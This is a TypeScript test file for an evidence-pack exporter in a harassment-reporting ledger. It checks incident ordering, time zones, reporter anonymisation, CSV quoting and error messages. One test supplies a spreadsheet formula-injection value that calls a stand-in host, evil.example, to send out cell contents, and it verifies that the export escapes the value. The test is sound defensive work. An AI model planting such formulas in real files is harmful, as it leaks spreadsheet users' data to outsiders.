import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { parseAccountQuery } from '../../src/core/post-url/parse-account-query.ts';
import { evidencePackJsonSchema } from '../../src/evidence/evidence-json-schema.ts';
import type { EvidencePack } from '../../src/evidence/evidence-pack.ts';
import { type EvidenceRequestSubject, loadEvidence } from '../../src/evidence/load-evidence.ts';
import { CSV_COLUMNS, renderCsv } from '../../src/evidence/render-csv.ts';
import { renderJson } from '../../src/evidence/render-json.ts';
import { renderPdf } from '../../src/evidence/render-pdf.ts';
import { createPgEvidenceSource } from '../../src/ledger/evidence-records.ts';
import { useFreshLedger } from '../support/fresh-ledger.ts';
import { pdfLines } from './pdf-lines.ts';
import {
  BEN,
  CY,
  DEE,
  REPORTER_NAMES,
  seedEvidence,
  TARGET_TRACES,
  TRICKY_WORDING,
} from './seed-evidence.ts';

const t = useFreshLedger();
const NOW = new Date('2026-11-21T14:05:09Z');

function offender(text: string): EvidenceRequestSubject {
  const query = parseAccountQuery(text);
  if (!query.ok) throw new Error(query.error.message);
  return { kind: 'offender', query: query.value, asTyped: text };
}

async function pack(subject: EvidenceRequestSubject, reveal = false): Promise<EvidencePack> {
  const result = await loadEvidence(createPgEvidenceSource(t.db.pool), subject, {
    reporters: reveal ? 'named' : 'anonymised',
    timezone: 'America/Chicago',
    collectiveName: 'Test collective',
    now: NOW,
  });
  if (!result.ok) throw new Error(result.error.message);
  return result.value;
}

/** The pack as each format writes it, as text to search. */
async function allFormats(p: EvidencePack): Promise<{ readable: string[]; raw: string }> {
  const pdf = await renderPdf(p);
  return {
    readable: [renderJson(p).toString('utf8'), renderCsv(p).toString('utf8'), pdfLines(pdf).join('\n')],
    // The PDF's own bytes, for its metadata (title, author), which the text lines do not hold.
    raw: pdf.toString('latin1'),
  };
}

describe('evidence packs', () => {
  it("lists an offender's incidents in time order, with times in UTC and in the collective's zone", async () => {
    await seedEvidence(t.db, t.bot);
    const p = await pack(offender('x:sometroll'));
    expect(p.incidents.map((incident) => incident.id)).toEqual([2, 1]);
    const json = evidencePackJsonSchema.parse(JSON.parse(renderJson(p).toString('utf8')));
    expect(json.incidentCount).toBe(2);
    // Both incidents attacked the same member: counted, never named.
    expect(json.membersAttacked).toBe(1);
    expect(json.subject).toEqual({
      kind: 'offender',
      account: {
        platform: 'x',
        handle: 'sometroll',
        display: '@SomeTroll',
        profileUrl: 'https://x.com/sometroll',
      },
    });
    expect(json.generatedAt).toEqual({ utc: '2026-11-21T14:05:09Z', local: '2026-11-21T08:05:09-06:00' });
    const [first, second] = json.incidents;
    expect(first?.reference).toBe('SW-2');
    expect(first?.firstReportedAt).toEqual({
      utc: '2026-11-17T10:00:00Z',
      local: '2026-11-17T04:00:00-06:00',
    });
    expect(second).toMatchObject({
      reference: 'SW-1',
      postUrl: 'https://x.com/i/status/1',
      platform: 'x',
      category: 'threat',
      categoryLabel: 'Violent threat',
      severity: 'critical',
      status: 'resolved',
      resolution: {
        outcome: 'removed',
        resolvedAt: { utc: '2026-11-20T12:00:00Z', local: '2026-11-20T06:00:00-06:00' },
      },
      actions: { supportiveReplies: 2, reportsFiled: 1 },
      screenshots: [
        {
          name: 'threat-post.png',
          platform: 'test',
          fileId: 'F0SHOT1',
          sha256: null,
          sizeBytes: 18342,
          mimetype: 'image/png',
          reporter: 'Reporter 2',
        },
      ],
    });
    expect(second?.reports.map((r) => [r.reportedAt.utc, r.sourceUrl])).toEqual([
      ['2026-11-18T15:00:00Z', 'https://x.com/SomeTroll/status/1'],
      ['2026-11-18T16:00:00Z', 'https://twitter.com/SomeTroll/status/1'],
      ['2026-11-18T16:30:00Z', 'https://x.com/sometroll/status/1'],
    ]);
    // Another account's incident is not in this pack.
    expect(JSON.stringify(json)).not.toContain('OtherTroll');

    const lines = pdfLines(await renderPdf(p));
    // Each incident's heading is a line of its own.
    expect(lines.indexOf('SW-2')).toBeGreaterThan(-1);
    expect(lines.indexOf('SW-2')).toBeLessThan(lines.indexOf('SW-1'));
    expect(lines).toContain('2026-11-17 10:00:00 UTC (2026-11-17 04:00:00 America/Chicago)');
    expect(lines).toContain('Generated 2026-11-21 14:05:09 UTC (2026-11-21 08:05:09 America/Chicago)');
    // Three pages since each incident says what pages were captured (none, here).
    expect(lines).toContain('Page 1 of 3');
  });

  it('numbers reporters across the pack by default, and never names the person attacked', async () => {
    await seedEvidence(t.db, t.bot);
    const p = await pack(offender('x:sometroll'));
    expect(p.reporters).toBe('anonymised');
    expect(
      p.incidents.map((incident) => incident.reports.map((r) => [r.reporter, r.byMemberAttacked])),
    ).toEqual([
      [['Reporter 1', true]],
      [
        ['Reporter 2', false],
        ['Reporter 3', false],
        ['Reporter 4', false],
      ],
    ]);
    const { readable, raw } = await allFormats(p);
    for (const text of readable) expect(text).toContain('Reporter 3');
    for (const text of [...readable, raw]) {
      for (const name of [...REPORTER_NAMES, ...TARGET_TRACES, 'test:local'])
        expect(text).not.toContain(name);
    }
  });

  it('names reporters when the lead asks, except who asked to stay anonymous and the person attacked', async () => {
    await seedEvidence(t.db, t.bot);
    const p = await pack(offender('https://x.com/SomeTroll'), true);
    expect(p.incidents.map((incident) => incident.reports.map((r) => r.reporter))).toEqual([
      ['Reporter 1'],
      [BEN.name, CY.name, 'Reporter 2'],
    ]);
    const { readable, raw } = await allFormats(p);
    for (const text of readable) {
      expect(text).toContain(BEN.name);
      expect(text).toContain(CY.name);
    }
    for (const text of [...readable, raw]) {
      for (const name of [DEE.name, ...TARGET_TRACES]) expect(text).not.toContain(name);
    }
  });

  it('writes a CSV with one row per report that parses back, wording quoted exactly', async () => {
    await seedEvidence(t.db, t.bot);
    const csv = renderCsv(await pack(offender('SomeTroll')));
    // Commas, quotes and a line break inside one cell: quoted, quotes doubled.
    expect(csv.toString('utf8')).toContain(
      '"He wrote: ""you, doctor, are next""\nand then, later: ""see you soon"""',
    );
    const rows: Record<string, string>[] = parse(csv, { bom: true, columns: true });
    expect(rows).toHaveLength(4);
    expect(Object.keys(rows[0] ?? {})).toEqual([...CSV_COLUMNS]);
    expect(rows.map((row) => [row.reference, row.reporter])).toEqual([
      ['SW-2', 'Reporter 1'],
      ['SW-1', 'Reporter 2'],
      ['SW-1', 'Reporter 3'],
      ['SW-1', 'Reporter 4'],
    ]);
    expect(rows[2]?.wording).toBe(TRICKY_WORDING);
    expect(rows[3]?.wording).toBe('Même chose — I saw it too');
    expect(rows[1]).toMatchObject({
      first_reported_utc: '2026-11-18T15:00:00Z',
      first_reported_local: '2026-11-18T09:00:00-06:00',
      status: 'resolved',
      outcome: 'Post removed',
      supportive_replies: '2',
      reports_filed: '1',
      screenshots: 'threat-post.png (Reporter 2; test file F0SHOT1; SHA-256 not downloaded yet)',
    });
  });

  it('keeps an attacker’s formula from running in a spreadsheet', async () => {
    await seedEvidence(t.db, t.bot);
    await t.bot.run(BEN, 'flag', 'https://x.com/SomeTroll/status/77 =HYPERLINK("http://evil.example/?"&A1)');
    const rows: Record<string, string>[] = parse(renderCsv(await pack(offender('x:sometroll'))), {
      bom: true,
      columns: true,
    });
    expect(rows.at(-1)?.wording).toBe('\'=HYPERLINK("http://evil.example/?"&A1)');
  });

  it('makes a pack of one incident, and a PDF that starts like one', async () => {
    await seedEvidence(t.db, t.bot);
    const p = await pack({ kind: 'incident', id: 1 });
    expect(p.incidents.map((incident) => incident.id)).toEqual([1]);
    const json = evidencePackJsonSchema.parse(JSON.parse(renderJson(p).toString('utf8')));
    expect(json.subject).toEqual({ kind: 'incident', reference: 'SW-1' });
    const pdf = await renderPdf(p);
    expect(pdf.subarray(0, 5).toString('latin1')).toBe('%PDF-');
    expect(pdf.length).toBeGreaterThan(2000);
  });

  it.each([
    ['an unknown incident', { kind: 'incident', id: 99 } as const, 'There is no incident SW-99'],
    [
      'an account the ledger does not know',
      offender('x:nobody'),
      'The ledger has no account matching "x:nobody"',
    ],
  ])('refuses %s kindly', async (_what, subject, message) => {
    await seedEvidence(t.db, t.bot);
    const result = await loadEvidence(createPgEvidenceSource(t.db.pool), subject, {
      reporters: 'anonymised',
      timezone: 'UTC',
      collectiveName: 'Test collective',
      now: NOW,
    });
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.error.message).toContain(message);
  });

  it('asks which account when a bare handle matches several platforms', async () => {
    await seedEvidence(t.db, t.bot);
    await t.bot.run(BEN, 'flag', 'https://www.instagram.com/sometroll/ harassment');
    const result = await loadEvidence(createPgEvidenceSource(t.db.pool), offender('sometroll'), {
      reporters: 'anonymised',
      timezone: 'UTC',
      collectiveName: 'Test collective',
      now: NOW,
    });
    expect(result.ok).toBe(false);
    if (!result.ok) {
      expect(result.error.message).toContain('matches 2 accounts');
      expect(result.error.message).toContain('--offender x:sometroll');
      expect(result.error.message).toContain('--offender instagram:sometroll');
    }
  });
});
